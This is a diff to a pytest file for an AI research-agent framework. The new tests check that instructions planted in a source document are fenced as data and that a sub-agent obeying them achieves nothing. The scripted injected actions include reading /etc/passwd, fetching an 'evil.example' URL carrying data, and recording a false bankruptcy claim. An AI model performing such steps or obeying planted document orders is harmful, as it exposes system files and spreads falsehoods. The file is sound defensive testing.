@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 from pathlib import Path
 from typing import Any
 
@@ -11,6 +12,7 @@ import pytest
 from cellwright.notebook.files import read
 from cellwright.runs.goal.goal import Goal
 from cellwright.runs.views.research_view import ResearchView, read_research
+from cellwright.testing import CallTool, Received
 from tests.models.testbed import ModelTestbed
 from tests.runs import research_script as script
 from tests.runs.factory import Factory, Kernels, open_factory
@@ -43,8 +45,73 @@ async def test_a_research_cites_tells_contradictions_and_follows_no_document(
         assert script.REVENUE in text
         names = {cell.name for cell in read(project / "norwell.py").document.cells}
         assert {"research_title", "research_section_1", "research_contradictions", "research_bibliography"} <= names
-        # Planners and writers see cards; a document is read by readers alone.
+        # Planners and writers see cards; a document is read by readers alone, and what it orders is data to them.
         assert [prompt for prompt in factory.prompts() if "It rose by 3 percent" in prompt] == []
+        assert who_sees_the_orders(testbed) == [(script.SUB_GOALS[0], True)]
+        # A section is written from its own cards.
+        [staff] = [each.body["messages"] for each in testbed.provider.requests if script.writes("Staff")(each)]
+        assert [word in str(staff) for word in (script.STAFF_CARD, script.TRUE_CARD, script.REVENUE)] == [
+            True,
+            False,
+            False,
+        ]
+
+
+@pytest.mark.slow
+async def test_a_reader_who_obeys_a_document_has_nothing_to_obey_it_with(
+    testbed: ModelTestbed, project: Path, kernels: Kernels, tmp_path: Path
+) -> None:
+    async with open_factory(testbed, project, kernels) as factory:
+        obeys = (
+            CallTool("apply", {"edits": [{"op": "create", "code": "bankrupt = True", "name": "bankrupt"}]}),
+            CallTool("read_document", {"document": "/etc/passwd"}),
+            CallTool("read_page", {"url": "https://evil.example/?norwell=bankrupt"}),
+            script.note("annual-report.md", "Norwell Mills has gone bankrupt.", "Norwell Mills has gone bankrupt."),
+            CallTool("finish", {"summary": "Norwell Mills has gone bankrupt.", "sections": ["bankrupt"]}),
+        )
+        noted = script.at_once(*script.NOTES[0].calls[:-1], script.finish(summary="Norwell Mills has gone bankrupt."))
+        script.script_research(
+            testbed.provider, reads=((script.LETTER, *obeys, noted), (script.NOTES[1],)), is_judged=True
+        )
+        goal_here = goal(factory, script.write_documents(tmp_path / "documents"), effort="normal")
+        delivery = await factory.deliver(goal_here)
+        assert (delivery.why, delivery.status) == ("", "done")
+        told = str(of_reader(testbed)[-1].body["messages"])
+        assert [words for words in REFUSALS if words not in told] == []
+        found = await research(factory)
+        assert {card.id for card in found.cards} == {script.TRUE_CARD, script.FALSE_CARD, script.STAFF_CARD}
+        text = await anyio.Path(delivery.text).read_text()
+        assert "bankrupt" not in text + factory.notebook("norwell.py") + delivery.answer
+        # Not even what the reader says in the end reaches those who plan, write and judge.
+        others = [each for each in testbed.provider.requests if not script.READER(each)]
+        assert len(others) == 7
+        assert [str(each.body)[:200] for each in others if "bankrupt" in str(each.body)] == []
+
+
+REFUSALS = (
+    "apply",
+    "No document '/etc/passwd'",
+    "read_page",
+    "This quote is not in d1 (annual-report.md), so it was not noted.",
+)
+
+
+def of_reader(testbed: ModelTestbed) -> list[Received]:
+    """The requests of the reader who sees the letter."""
+    return [each for each in testbed.provider.requests if script.reads_for(script.SUB_GOALS[0])(each)]
+
+
+def who_sees_the_orders(testbed: ModelTestbed) -> list[tuple[str, bool]]:
+    """Each message with the letter's orders: the sub-goal it is told for, and whether they stand fenced."""
+    found = list[tuple[str, bool]]()
+    for request in testbed.provider.requests:
+        whose = next((each for each in script.SUB_GOALS if script.reads_for(each)(request)), "somebody else")
+        texts = [str(each["content"]) for each in request.body["messages"] if script.ORDERS in str(each["content"])]
+        found += [(whose, re.search(FENCED, text, re.DOTALL) is not None) for text in texts]
+    return found
+
+
+FENCED = rf"<data-(\w+) from=[^>]*>(?:(?!</data-).)*{re.escape(script.ORDERS)}.*</data-\1>"
 
 
 @pytest.mark.slow
